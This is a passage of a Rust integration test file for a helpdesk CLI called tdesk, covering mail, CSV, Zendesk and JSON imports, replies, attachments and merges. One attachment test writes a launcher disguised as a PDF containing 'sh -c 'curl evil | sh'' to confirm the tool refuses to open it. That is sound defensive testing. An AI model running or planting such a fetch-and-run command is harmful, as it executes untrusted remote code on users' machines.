//! Imports through the real binary: the mail corpus under tests/mail (eight
//! mail programs, two marketplaces, five charsets, junk), mbox and Maildir,
//! spreadsheets and helpdesk exports, tdesk's own JSON round trip, replies
//! going out through a mail command, attachments.

use std::path::{Path, PathBuf};

use crate::common::{Scratch, code, stderr, stdout};

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/mail")
}

/// Every corpus message a mail program would deliver (not the junk).
fn good_mail() -> Vec<String> {
    let mut files: Vec<String> = std::fs::read_dir(corpus())
        .expect("corpus")
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "eml"))
        .filter(|p| !p.to_string_lossy().contains("junk"))
        .map(|p| p.to_string_lossy().into_owned())
        .collect();
    files.sort();
    files
}

fn mail(name: &str) -> String {
    corpus().join(name).to_string_lossy().into_owned()
}

fn ok(s: &Scratch, args: &[&str]) -> String {
    let out = s.tdesk(args);
    assert_eq!(code(&out), 0, "tdesk {args:?}: {}", stderr(&out));
    stdout(&out)
}

fn ticket_json(s: &Scratch, id: i64) -> serde_json::Value {
    serde_json::from_str(&ok(s, &["show", &id.to_string(), "--json"])).expect("json")
}

/// Number and title of every ticket, as `tdesk list` shows them.
fn titles(s: &Scratch) -> Vec<String> {
    let doc = export_json(s);
    doc["tickets"]
        .as_array()
        .expect("tickets")
        .iter()
        .map(|t| t["ticket"]["title"].as_str().unwrap_or("").to_string())
        .collect()
}

fn export_json(s: &Scratch) -> serde_json::Value {
    serde_json::from_str(&ok(s, &["export", "json"])).expect("export json")
}

#[test]
fn the_mail_corpus_imports_decoded_threaded_and_only_once() {
    let s = Scratch::with_desk();
    let files = good_mail();
    assert_eq!(files.len(), 16);
    let mut args = vec!["import", "eml"];
    args.extend(files.iter().map(String::as_str));
    let report = ok(&s, &args);
    assert!(report.contains("14 new ticket(s), 2 repl(ies)"), "{report}");
    let titles = titles(&s);
    for expected in [
        "Parcel stuck in customs for 9 days",
        "Rücksendung beschädigt",
        "耳机左耳没有声音",
        "顏色不對",
        "商品が届きません",
        "返品について",
        "包裹丢失请尽快",
        "Item not received (Order: 305-7654321-1234567)",
    ] {
        assert!(
            titles.iter().any(|t| t == expected),
            "{expected}: {titles:?}"
        );
    }
    assert!(
        titles.iter().all(|t| !t.chars().any(char::is_control)),
        "control characters never reach a title: {titles:?}"
    );
    // The two replies are comments on #1 with the attachments kept.
    let first = ticket_json(&s, 1);
    let comments = first["comments"].as_array().expect("comments");
    assert_eq!(comments.len(), 2, "{first}");
    assert_eq!(comments[0]["author"], "lena.k@example.de");
    let files = ok(&s, &["attachment", "list", "1"]);
    for name in ["original.eml", "customs-letter.pdf", "照片.png"] {
        assert!(files.contains(name), "{files}");
    }
    // Amazon relay mail: a marketplace ticket with its order number.
    let doc = export_json(&s);
    let relay = doc["tickets"]
        .as_array()
        .expect("tickets")
        .iter()
        .find(|t| {
            t["ticket"]["title"]
                .as_str()
                .is_some_and(|t| t.starts_with("Item not"))
        })
        .expect("relay ticket");
    assert_eq!(relay["ticket"]["channel"], "marketplace");
    assert!(
        relay["ticket"]["custom"]["orders"]
            .as_str()
            .is_some_and(|o| o.contains("305-7654321-1234567")),
        "{relay}"
    );
    // HTML-only mail reads as text.
    let html = doc["tickets"]
        .as_array()
        .expect("tickets")
        .iter()
        .find(|t| t["ticket"]["title"] == "Mauvaise taille")
        .expect("html ticket");
    let text = html["ticket"]["description"].as_str().unwrap_or("");
    assert!(!text.contains('<'), "no markup left: {text}");
    assert_eq!(
        html["ticket"]["custom"]["orders"], "FR-88231",
        "Commande n° FR-88231"
    );
    // The same files again change nothing.
    let again = ok(&s, &args);
    assert!(again.contains("0 new ticket(s), 0 repl(ies)"), "{again}");
    assert!(again.contains("16 already there"), "{again}");
    assert_eq!(
        export_json(&s)["tickets"].as_array().map(Vec::len),
        Some(14)
    );
}

#[test]
fn junk_is_refused_whole_unless_skip_bad_and_then_named() {
    let s = Scratch::with_desk();
    let junk = mail("17-junk.bin.eml");
    let first = mail("01-gmail-en.eml");
    let out = s.tdesk(&["import", "eml", &first, &junk]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("nothing was imported"), "{err}");
    assert!(
        err.contains("17-junk.bin.eml: the message has no sender address"),
        "{err}"
    );
    assert!(titles(&s).is_empty(), "an atomic import wrote nothing");
    let out = s.tdesk(&["import", "eml", "--skip-bad", &first, &junk]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stdout(&out).contains("1 new ticket(s)"), "{}", stdout(&out));
    assert!(
        format!("{}{}", stdout(&out), stderr(&out)).contains("17-junk.bin.eml"),
        "the skipped file is named"
    );
}

#[test]
fn a_reply_moves_a_waiting_ticket_back_and_strangers_cannot_thread_by_subject() {
    let s = Scratch::with_desk();
    ok(&s, &["import", "eml", &mail("01-gmail-en.eml")]);
    ok(&s, &["assign", "1", "me"]);
    ok(&s, &["move", "1", "waiting_customer"]);
    ok(&s, &["import", "eml", &mail("11-gmail-reply.eml")]);
    assert_eq!(ticket_json(&s, 1)["ticket"]["status"], "in_progress");
    // Someone else writing "[#1]" gets a ticket of their own.
    let dir = tempfile::tempdir().expect("tempdir");
    let stranger = dir.path().join("stranger.eml");
    std::fs::write(
        &stranger,
        "From: Mallory <m@example.net>\r\nTo: support@shop.example\r\n\
         Subject: Re: [#1] add me\r\nMessage-ID: <stranger-1@example.net>\r\n\r\nHi\r\n",
    )
    .expect("write");
    let report = ok(&s, &["import", "eml", &stranger.to_string_lossy()]);
    assert!(report.contains("1 new ticket(s)"), "{report}");
    // Nor does one who answers the thread itself (a CC, a forward): their
    // words are never filed as the customer's; the ticket says why.
    let cc = dir.path().join("cc.eml");
    std::fs::write(
        &cc,
        "From: Eve <eve@example.net>\r\nTo: support@shop.example\r\n\
         Subject: Re: Parcel stuck in customs\r\nMessage-ID: <cc-1@example.net>\r\n\
         In-Reply-To: <CAF+gmail-0011@mail.gmail.com>\r\n\r\nPlease refund me instead\r\n",
    )
    .expect("write");
    let report = ok(&s, &["import", "eml", &cc.to_string_lossy()]);
    assert!(report.contains("1 new ticket(s)"), "{report}");
    let thread = ticket_json(&s, 1);
    let bodies: Vec<&str> = thread["comments"]
        .as_array()
        .expect("comments")
        .iter()
        .filter_map(|c| c["body"].as_str())
        .collect();
    assert!(
        !bodies.iter().any(|b| b.contains("refund me")),
        "{bodies:?}"
    );
    let own = ticket_json(&s, 3);
    let note = own["comments"][0]["body"].as_str().unwrap_or("");
    assert!(
        note.contains("answers #1") && note.contains("eve@example.net"),
        "{own}"
    );
}

#[test]
fn mbox_and_maildir_import_and_maildir_moves_new_to_cur() {
    let s = Scratch::with_desk();
    let dir = tempfile::tempdir().expect("tempdir");
    let mut mbox = Vec::new();
    for name in [
        "02-outlook-de-qp.eml",
        "03-qq-gbk-base64.eml",
        "05-big5-tw.eml",
    ] {
        let raw = std::fs::read(corpus().join(name)).expect("corpus");
        mbox.extend_from_slice(b"From someone@example.com Mon Mar  9 08:00:00 2026\n");
        // mboxrd: body lines starting with "From " are quoted.
        for line in raw.split_inclusive(|b| *b == b'\n') {
            if line.starts_with(b"From ") {
                mbox.push(b'>');
            }
            mbox.extend_from_slice(line);
        }
        mbox.extend_from_slice(b"\n");
    }
    let file = dir.path().join("inbox.mbox");
    std::fs::write(&file, &mbox).expect("mbox");
    let report = ok(&s, &["import", "mbox", &file.to_string_lossy()]);
    assert!(report.contains("3 new ticket(s)"), "{report}");
    let again = ok(&s, &["import", "mbox", &file.to_string_lossy()]);
    assert!(again.contains("3 already there"), "{again}");

    let maildir = dir.path().join("Maildir");
    for sub in ["new", "cur", "tmp"] {
        std::fs::create_dir_all(maildir.join(sub)).expect("maildir");
    }
    for (i, name) in ["06-sjis-jp.eml", "07-thunderbird-iso2022jp.eml"]
        .iter()
        .enumerate()
    {
        std::fs::copy(
            corpus().join(name),
            maildir.join("new").join(format!("17000000{i}.M1P1.host")),
        )
        .expect("copy");
    }
    let report = ok(&s, &["import", "maildir", &maildir.to_string_lossy()]);
    assert!(report.contains("2 new ticket(s)"), "{report}");
    let left = std::fs::read_dir(maildir.join("new")).expect("new").count();
    assert_eq!(left, 0, "new/ is emptied");
    let mut seen: Vec<String> = std::fs::read_dir(maildir.join("cur"))
        .expect("cur")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    seen.sort();
    assert_eq!(seen, ["170000000.M1P1.host:2,S", "170000001.M1P1.host:2,S"]);
    // A second run (cron) finds nothing new.
    let quiet = ok(&s, &["import", "maildir", &maildir.to_string_lossy()]);
    assert!(quiet.contains("0 new ticket(s)"), "{quiet}");
    let titles = titles(&s);
    assert!(titles.iter().any(|t| t == "商品が届きません"), "{titles:?}");
    assert!(titles.iter().any(|t| t == "返品について"), "{titles:?}");
}

#[test]
fn a_ten_megabyte_body_is_cut_with_a_note_and_kept_whole_as_the_original() {
    let s = Scratch::with_desk();
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("big.eml");
    let mut raw = String::from(
        "From: Big <big@example.com>\r\nTo: s@shop.example\r\nSubject: Huge\r\n\
         Message-ID: <big-1@example.com>\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n",
    );
    while raw.len() < 10 << 20 {
        raw.push_str("包裹丢失了，请尽快处理 parcel lost, please hurry\r\n");
    }
    std::fs::write(&file, &raw).expect("write");
    ok(&s, &["import", "eml", &file.to_string_lossy()]);
    let t = ticket_json(&s, 1);
    let text = t["ticket"]["description"].as_str().unwrap_or("");
    assert!(text.len() <= 1 << 20, "{}", text.len());
    assert!(text.ends_with("the whole message is in original.eml]"));
    let files = ok(&s, &["attachment", "list", "1"]);
    assert!(files.contains("10.0 MiB"), "{files}");
}

#[test]
fn attachments_over_the_limit_are_noted_not_kept_and_saved_ones_are_whole() {
    let s = Scratch::with_desk();
    ok(&s, &["mail", "set", "--attachment-limit", "48"]);
    ok(&s, &["import", "eml", &mail("12-attachments.eml")]);
    let t = ticket_json(&s, 1);
    let text = t["ticket"]["description"].as_str().unwrap_or("");
    assert!(text.contains("[✗ 照片.png (51 bytes)]"), "{text}");
    assert!(text.contains("[✗ original.eml"), "{text}");
    let files = ok(&s, &["attachment", "list", "1"]);
    assert!(files.contains("customs-letter.pdf"), "{files}");
    assert!(!files.contains("照片.png"), "{files}");
    let out = s.dir.path().join("letter.pdf");
    ok(
        &s,
        &["attachment", "save", "1", "--out", &out.to_string_lossy()],
    );
    let saved = std::fs::read(&out).expect("saved");
    assert!(saved.starts_with(b"%PDF-1.4"), "decoded from base64");
    let missing = s.tdesk(&["attachment", "save", "99"]);
    assert_eq!(code(&missing), 3, "{}", stderr(&missing));
    // A launcher dressed as a PDF is never handed to the system opener.
    let fake = s.dir.path().join("invoice.pdf");
    std::fs::write(&fake, "[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n").expect("write");
    let added = ok(&s, &["attachment", "add", "1", &fake.to_string_lossy()]);
    let id = added
        .split(|c: char| !c.is_ascii_digit())
        .find(|w| !w.is_empty())
        .expect("an attachment number");
    let open = s.tdesk(&["attachment", "open", id]);
    assert_eq!(code(&open), 4, "{}", stderr(&open));
    assert!(
        stderr(&open).contains("could run a program"),
        "{}",
        stderr(&open)
    );
}

const ZENDESK: &str = "\
Id,Subject,Description,Status,Priority,Ticket type,Via,Tags,Group,Requester,Requester email,Created at,Updated at
101,Refund for order 113-5524,Customer wants a refund,open,high,question,Mail,refund vip,,Anna Schmidt,anna@example.de,2026-03-01 10:00:00 +0100,2026-03-02 09:00:00 +0100
102,Package damaged,\"Box arrived crushed,\nphoto attached\",pending,urgent,incident,Web Widget,,,Bob Lee,bob@example.com,2026-03-03 11:00:00 +0000,2026-03-03 12:00:00 +0000
103,Wrong colour,,solved,low,problem,Chat,,,Anna Schmidt,anna@example.de,2026-03-04 08:00:00 +0100,2026-03-05 08:00:00 +0100
";

fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).expect("write");
    path.to_string_lossy().into_owned()
}

#[test]
fn a_zendesk_export_is_recognised_mapped_and_imported_once() {
    let s = Scratch::with_desk();
    let dir = tempfile::tempdir().expect("tempdir");
    let file = write(dir.path(), "zendesk.csv", ZENDESK);
    let dry = ok(&s, &["import", "csv", &file, "--dry-run"]);
    assert!(dry.contains("3 ticket(s) would be created"), "{dry}");
    assert!(
        dry.contains("5: Wrong colour"),
        "line numbers count the quoted line break: {dry}"
    );
    assert!(titles(&s).is_empty(), "a dry run writes nothing");
    let report = ok(&s, &["import", "csv", &file]);
    assert!(report.contains("3 new ticket(s)"), "{report}");
    assert!(report.contains("2 new customer(s)"), "{report}");
    let doc = export_json(&s);
    let tickets = doc["tickets"].as_array().expect("tickets");
    let by_title = |title: &str| {
        tickets
            .iter()
            .find(|t| t["ticket"]["title"] == title)
            .expect("a ticket with that title")
    };
    let refund = by_title("Refund for order 113-5524");
    assert_eq!(refund["ticket"]["status"], "in_progress");
    assert_eq!(refund["ticket"]["priority"], "P1");
    assert_eq!(refund["ticket"]["channel"], "email");
    assert_eq!(refund["external_id"], "zendesk:101");
    assert_eq!(refund["ticket"]["created_at"], "2026-03-01T09:00:00Z");
    let damaged = by_title("Package damaged");
    assert_eq!(damaged["ticket"]["status"], "waiting_customer");
    assert_eq!(damaged["ticket"]["priority"], "P0");
    assert_eq!(
        damaged["ticket"]["description"],
        "Box arrived crushed,\nphoto attached"
    );
    assert_eq!(by_title("Wrong colour")["ticket"]["status"], "resolved");
    let again = ok(&s, &["import", "csv", &file]);
    assert!(again.contains("3 already there"), "{again}");
}

#[test]
fn chinese_spreadsheets_import_with_their_own_words() {
    let s = Scratch::with_desk();
    let dir = tempfile::tempdir().expect("tempdir");
    let file = write(
        dir.path(),
        "表格.csv",
        "标题,描述,优先级,客户,邮箱,渠道,订单号\n\
         耳机没有声音,左耳没有声音,高,王先生,wang@example.cn,邮件,A-1\n\
         包裹丢失,快递单号 SF123,紧急,李女士,li@example.cn,电话,\n",
    );
    let report = ok(&s, &["import", "csv", &file]);
    assert!(report.contains("2 new ticket(s)"), "{report}");
    let t = ticket_json(&s, 1);
    assert_eq!(t["ticket"]["priority"], "P1");
    assert_eq!(t["ticket"]["channel"], "email");
    assert_eq!(t["customer"]["name"], "王先生");
    assert_eq!(ticket_json(&s, 2)["ticket"]["priority"], "P0");
}

#[test]
fn bad_rows_are_named_by_line_and_nothing_or_only_the_good_is_written() {
    let s = Scratch::with_desk();
    let dir = tempfile::tempdir().expect("tempdir");
    let file = write(
        dir.path(),
        "bad.csv",
        "title,priority,created\nfine,P1,2026-01-02\n,P2,2026-01-02\nlater,P9,2026-01-02\nok,P3,yesterday\n",
    );
    let out = s.tdesk(&["import", "csv", &file]);
    assert_eq!(code(&out), 2);
    let err = stderr(&out);
    for line in ["bad.csv:3:", "bad.csv:4:", "bad.csv:5:"] {
        assert!(err.contains(line), "{line}: {err}");
    }
    assert!(titles(&s).is_empty(), "nothing was written");
    let out = s.tdesk(&["import", "csv", &file, "--skip-bad"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(titles(&s), ["fine"]);
    let cut = write(
        dir.path(),
        "cut.csv",
        "title,description\nok,\"never closed\n",
    );
    let out = s.tdesk(&["import", "csv", &cut]);
    assert_eq!(code(&out), 2);
    assert!(
        stderr(&out).contains("cut.csv:2: a quoted cell starting here is never closed"),
        "{}",
        stderr(&out)
    );
    let binary = dir.path().join("photo.csv");
    std::fs::write(&binary, [0x89, b'P', b'N', b'G', 0, 0, 0, 13, 0xff, 0xfe]).expect("write");
    let out = s.tdesk(&["import", "csv", &binary.to_string_lossy()]);
    assert_eq!(code(&out), 2);
    assert!(!stderr(&out).is_empty());
    assert_eq!(titles(&s), ["fine"]);
}

#[test]
fn a_map_file_names_columns_and_values() {
    let s = Scratch::with_desk();
    let dir = tempfile::tempdir().expect("tempdir");
    let file = write(
        dir.path(),
        "shop.csv",
        "Nr;Betreff;Dringlichkeit;Marktplatz\n7;Falsche Größe;hoch;Amazon.de\n",
    );
    let map = write(
        dir.path(),
        "shop.toml",
        "source = \"shop\"\n[columns]\nexternal_id = \"Nr\"\ntitle = \"Betreff\"\n\
         priority = \"Dringlichkeit\"\n[custom]\n\"Marktplatz\" = \"marketplace\"\n\
         [values.priority]\nhoch = \"P1\"\n",
    );
    ok(&s, &["import", "csv", &file, "--map", &map]);
    let t = ticket_json(&s, 1);
    assert_eq!(t["ticket"]["title"], "Falsche Größe");
    assert_eq!(t["ticket"]["priority"], "P1");
    assert_eq!(t["ticket"]["custom"]["marketplace"], "Amazon.de");
    let wrong = write(dir.path(), "wrong.toml", "[columns]\ntitle = \"Subject\"\n");
    let out = s.tdesk(&["import", "csv", &file, "--map", &wrong]);
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("Subject"), "{}", stderr(&out));
}

#[test]
fn json_export_imports_into_an_empty_desk_and_exports_the_same() {
    let s = Scratch::with_desk();
    ok(&s, &["demo"]);
    ok(
        &s,
        &[
            "import",
            "eml",
            &mail("01-gmail-en.eml"),
            &mail("12-attachments.eml"),
        ],
    );
    let first = s.dir.path().join("first.json");
    ok(&s, &["export", "json", "--out", &first.to_string_lossy()]);
    let copy = Scratch::with_desk();
    let report = ok(&copy, &["import", "json", &first.to_string_lossy()]);
    assert!(report.contains("new ticket(s)"), "{report}");
    let second = copy.dir.path().join("second.json");
    ok(
        &copy,
        &["export", "json", "--out", &second.to_string_lossy()],
    );
    let read = |path: &Path| -> serde_json::Value {
        let text = std::fs::read_to_string(path).expect("export");
        without_row_ids(serde_json::from_str(&text).expect("json"))
    };
    let (a, b) = (read(&first), read(&second));
    assert!(a["tickets"].as_array().is_some_and(|t| t.len() > 20));
    for key in ["tickets", "customers"] {
        assert_eq!(a[key], b[key], "{key} round-trip");
    }
    // And once more changes nothing.
    let again = ok(&copy, &["import", "json", &first.to_string_lossy()]);
    assert!(again.contains("0 new ticket(s)"), "{again}");
}

/// Comment, event and attachment row numbers are the new desk's own;
/// everything else must be equal. Comments become their position in the
/// ticket, and what refers to them (events, attachments) follows.
fn without_row_ids(mut doc: serde_json::Value) -> serde_json::Value {
    for t in doc["tickets"].as_array_mut().into_iter().flatten() {
        let ids: Vec<i64> = t["comments"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|c| c["id"].as_i64())
            .collect();
        let position = |id: i64| ids.iter().position(|c| *c == id).map(|p| p as i64);
        for (i, c) in t["comments"]
            .as_array_mut()
            .into_iter()
            .flatten()
            .enumerate()
        {
            c["id"] = serde_json::json!(i);
        }
        for e in t["events"].as_array_mut().into_iter().flatten() {
            e["id"] = serde_json::json!(0);
            let refers = e["kind"] == "comment";
            if let Some(n) = e["new"].as_str().and_then(|n| n.parse().ok())
                && refers
            {
                e["new"] = serde_json::json!(position(n).map(|p| p.to_string()));
            }
        }
        // Steps are numbered desk-wide in the order they were made: by
        // their place instead, and time entries point at that place.
        let steps: Vec<i64> = t["subtasks"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|s| s["id"].as_i64())
            .collect();
        for (i, s) in t["subtasks"]
            .as_array_mut()
            .into_iter()
            .flatten()
            .enumerate()
        {
            s["id"] = serde_json::json!(i);
        }
        for e in t["time"].as_array_mut().into_iter().flatten() {
            e["id"] = serde_json::json!(0);
            if let Some(s) = e["step"].as_i64() {
                e["step"] = serde_json::json!(steps.iter().position(|x| *x == s));
            }
        }
        for a in t["attachments"].as_array_mut().into_iter().flatten() {
            a["id"] = serde_json::json!(0);
            if let Some(c) = a["comment"].as_i64() {
                a["comment"] = serde_json::json!(position(c));
            }
        }
    }
    doc
}

#[test]
fn replies_go_out_through_the_mail_command_and_failures_wait_to_be_retried() {
    let s = Scratch::with_desk();
    ok(
        &s,
        &[
            "import",
            "eml",
            &mail("01-gmail-en.eml"),
            &mail("11-gmail-reply.eml"),
        ],
    );
    let outbox = s.dir.path().join("outbox.txt");
    ok(
        &s,
        &[
            "mail",
            "set",
            "--from",
            "Shop Support <support@shop.example>",
            "--command",
            "echo 'msmtp: cannot connect' >&2; exit 75",
        ],
    );
    ok(
        &s,
        &[
            "comment",
            "1",
            "--body",
            "Wir haben beim Zoll nachgefragt. 已联系海关。",
        ],
    );
    let out = s.tdesk(&["mail", "send"]);
    assert_eq!(code(&out), 1, "a failed send is not success");
    assert!(
        stderr(&out).contains("kept and tried again"),
        "{}",
        stderr(&out)
    );
    let queue = ok(&s, &["mail", "queue"]);
    assert!(queue.contains("msmtp: cannot connect"), "{queue}");
    let shown = ok(&s, &["show", "1"]);
    assert!(shown.contains("failed (try 1)"), "{shown}");
    let command = format!("cat >> '{}'", outbox.display());
    ok(&s, &["mail", "set", "--command", &command]);
    ok(&s, &["mail", "retry", "1"]);
    ok(&s, &["mail", "send"]);
    let letter = std::fs::read_to_string(&outbox).expect("letter written");
    assert!(letter.contains("To: lena.k@example.de\r\n"), "{letter}");
    assert!(
        letter.contains("From: Shop Support <support@shop.example>"),
        "{letter}"
    );
    assert!(
        letter.contains("Subject: Re: [#1] Parcel stuck in customs for 9 days"),
        "{letter}"
    );
    assert!(
        letter.contains("In-Reply-To: <CAF+gmail-0011@mail.gmail.com>"),
        "{letter}"
    );
    assert!(letter.contains("References: "), "{letter}");
    assert!(letter.contains("Message-ID: <tdesk.1."), "{letter}");
    assert!(
        letter.contains("Content-Type: text/plain; charset=UTF-8"),
        "{letter}"
    );
    // Any mail program reads it back as written.
    let read = tdesk::interchange::mail::parse(letter.as_bytes()).expect("a valid message");
    assert_eq!(read.text, "Wir haben beim Zoll nachgefragt. 已联系海关。");
    assert_eq!(read.ticket_ref, Some(1));
    assert_eq!(
        read.parents.first().map(String::as_str),
        Some("CAF+gmail-0011@mail.gmail.com")
    );
    assert!(ok(&s, &["show", "1"]).contains("✉ mailed to lena.k@example.de"));
    // Sent once: another run sends nothing more.
    ok(&s, &["mail", "send"]);
    let again = std::fs::read_to_string(&outbox).expect("letter");
    assert_eq!(again.matches("Message-ID:").count(), 1);
    // Internal notes never leave the desk.
    ok(
        &s,
        &["comment", "1", "--internal", "--body", "customer is upset"],
    );
    ok(&s, &["mail", "send"]);
    let after = std::fs::read_to_string(&outbox).expect("letter");
    assert_eq!(after.matches("Message-ID:").count(), 1);
}

#[test]
fn canned_replies_are_filled_for_the_ticket_in_the_customers_language() {
    let s = Scratch::with_desk();
    ok(&s, &["import", "eml", &mail("03-qq-gbk-base64.eml")]);
    let names = ok(&s, &["replies", "show"]);
    assert!(!names.trim().is_empty());
    let dir = tempfile::tempdir().expect("tempdir");
    let file = write(
        dir.path(),
        "replies.toml",
        "[[reply]]\nname = \"ack\"\n[reply.text]\nen = \"Hi {{customer.name}}, we are on #{{ticket.number}}.\"\n\
         zh-CN = \"{{customer.name}}您好，工单 #{{ticket.number}} 正在处理。\"\n",
    );
    ok(&s, &["replies", "set", &file]);
    let filled = ok(&s, &["replies", "fill", "ack", "1"]);
    assert!(
        filled.contains("王先生您好，工单 #1 正在处理。"),
        "{filled}"
    );
    let bad = write(
        dir.path(),
        "bad.toml",
        "[[reply]]\nname = \"x\"\n[reply.text]\nen = \"Hi {{customer.nmae}}\"\n",
    );
    let out = s.tdesk(&["replies", "set", &bad]);
    assert_ne!(code(&out), 0);
    assert!(
        stderr(&out).contains("not a valid reply file"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("bad.toml:4"), "{}", stderr(&out));
    let still = ok(&s, &["replies", "fill", "ack", "1"]);
    assert_eq!(still, filled, "a bad file changes nothing");
}

#[test]
fn merging_moves_attachments_and_the_mail_thread_to_the_target() {
    let s = Scratch::with_desk();
    // #1 from the attachments message, #2 the same customer's first mail.
    ok(&s, &["import", "eml", &mail("12-attachments.eml")]);
    ok(&s, &["import", "eml", &mail("01-gmail-en.eml")]);
    ok(&s, &["merge", "1", "2"]);
    let moved = ok(&s, &["attachment", "list", "2"]);
    for name in ["customs-letter.pdf", "照片.png"] {
        assert!(moved.contains(name), "{moved}");
    }
    assert!(!ok(&s, &["attachment", "list", "1"]).contains(".pdf"));
    // A reply to the merged ticket's message lands on the target.
    let dir = tempfile::tempdir().expect("tempdir");
    let reply = dir.path().join("reply.eml");
    std::fs::write(
        &reply,
        "From: Lena Krause <lena.k@example.de>\r\nTo: support@shop.example\r\n\
         Subject: Re: photos\r\nMessage-ID: <after-merge@example.de>\r\n\
         In-Reply-To: <CAF+gmail-0012@mail.gmail.com>\r\n\r\nDid you get them?\r\n",
    )
    .expect("write");
    let report = ok(&s, &["import", "eml", &reply.to_string_lossy()]);
    assert!(report.contains("1 repl(ies)"), "{report}");
    let target = ticket_json(&s, 2);
    let last = target["comments"]
        .as_array()
        .and_then(|c| c.last())
        .cloned()
        .unwrap_or_default();
    assert_eq!(last["body"], "Did you get them?");
}

#[test]
fn a_reply_carries_its_files_and_a_missing_file_fails_the_letter_not_the_customer() {
    let s = Scratch::with_desk();
    ok(&s, &["import", "eml", &mail("01-gmail-en.eml")]);
    let outbox = s.dir.path().join("outbox.txt");
    let command = format!("cat > '{}'", outbox.display());
    ok(
        &s,
        &[
            "mail",
            "set",
            "--from",
            "support@shop.example",
            "--command",
            &command,
        ],
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let label = dir.path().join("退货标签.pdf");
    let pdf = b"%PDF-1.4\n\x00\xff return label".to_vec();
    std::fs::write(&label, &pdf).expect("write");
    ok(
        &s,
        &[
            "comment",
            "1",
            "--body",
            "Here is your return label.",
            "--attach",
            &label.to_string_lossy(),
        ],
    );
    ok(&s, &["mail", "send"]);
    let letter = std::fs::read(&outbox).expect("letter");
    let read = tdesk::interchange::mail::parse(&letter).expect("a valid message");
    assert_eq!(read.text, "Here is your return label.");
    assert_eq!(read.attachments.len(), 1);
    assert_eq!(read.attachments[0].name, "退货标签.pdf");
    assert_eq!(read.attachments[0].mime, "application/pdf");
    assert_eq!(read.attachments[0].bytes, pdf);
    // The file is on the ticket too, under the reply.
    assert!(ok(&s, &["attachment", "list", "1"]).contains("退货标签.pdf"));

    // A file gone from the desk directory: the letter fails, visibly.
    let other = dir.path().join("invoice.pdf");
    std::fs::write(&other, b"%PDF-1.4 invoice").expect("write");
    ok(
        &s,
        &[
            "comment",
            "1",
            "--body",
            "And the invoice.",
            "--attach",
            &other.to_string_lossy(),
        ],
    );
    let blobs = s.dir.path().join("attachments");
    let hash = {
        use sha2::Digest;
        tdesk::interchange::mail::hex(&sha2::Sha256::digest(b"%PDF-1.4 invoice"))
    };
    std::fs::remove_file(blobs.join(&hash[..2]).join(&hash)).expect("remove blob");
    let out = s.tdesk(&["mail", "send"]);
    assert_eq!(code(&out), 1);
    let queue = ok(&s, &["mail", "queue"]);
    assert!(queue.contains("missing from the desk directory"), "{queue}");
}

/// Tickets in the desk, read the way another process would.
fn ticket_count(db: &Path) -> i64 {
    let conn =
        rusqlite::Connection::open_with_flags(db, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY);
    conn.and_then(|c| c.query_row("SELECT count(*) FROM tickets", [], |r| r.get(0)))
        .unwrap_or(0)
}

#[test]
fn an_import_killed_midway_leaves_whole_chunks_and_a_rerun_completes_it() {
    let s = Scratch::with_desk();
    let dir = tempfile::tempdir().expect("tempdir");
    let rows = 20_000;
    let mut csv = String::from("Id,Subject,Description,Requester,Requester email\n");
    for i in 1..=rows {
        csv.push_str(&format!(
            "{i},包裹 {i} 丢失,\"line one\nline two\",Customer {c},c{c}@example.com\n",
            c = i % 300
        ));
    }
    // A Zendesk export with some of its columns.
    let file = write(dir.path(), "big.csv", &csv);
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_tdesk"))
        .args(["import", "csv", &file])
        .env("TDESK_DB", s.db())
        .env("HOME", s.dir.path())
        .env("XDG_CONFIG_HOME", s.dir.path().join("config"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("spawn import");
    // Kill it once some chunks are in (or when it is done, on a fast machine).
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    while ticket_count(&s.db()) == 0 && std::time::Instant::now() < deadline {
        if let Ok(Some(status)) = child.try_wait() {
            assert!(status.success(), "the import failed on its own: {status}");
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let _ = child.kill();
    let _ = child.wait();
    let partial = ticket_count(&s.db());
    eprintln!("killed with {partial} of {rows} tickets in");
    assert!(partial > 0, "some chunks were written before the kill");
    assert_eq!(partial % 500, 0, "only whole chunks: {partial}");
    let doctor = s.tdesk(&["doctor"]);
    assert!(stdout(&doctor).contains("ok"), "{}", stdout(&doctor));
    // Every ticket that is there is whole: its description and customer.
    let doc = export_json(&s);
    for t in doc["tickets"].as_array().into_iter().flatten() {
        assert_eq!(t["ticket"]["description"], "line one\nline two");
        assert!(t["customer"]["email"].is_string(), "{t}");
    }
    let report = ok(&s, &["import", "csv", &file]);
    assert!(
        report.contains(&format!("{partial} already there")),
        "{report}"
    );
    assert_eq!(ticket_count(&s.db()), rows);
}

/// `tdesk import csv SHEET --map MAP`.
fn import_with_map(s: &Scratch, sheet: &str, map: &Path) -> std::process::Output {
    s.tdesk(&[
        "import",
        "csv",
        sheet,
        "--map",
        map.to_str().expect("utf-8"),
    ])
}

/// The header of a public support-ticket dataset: every field behind a
/// `Ticket`/`Customer` prefix, types and states in its own words.
const PREFIXED_SHEET: &str = "Ticket ID,Customer Name,Customer Email,Customer Age,Ticket Type,Ticket Subject,Ticket Description,Ticket Status,Ticket Priority,Ticket Channel\n\
1,Marisa Obrien,carrollallison@example.com,32,Technical issue,Product setup,I can't log in,Pending Customer Response,Critical,Social media\n\
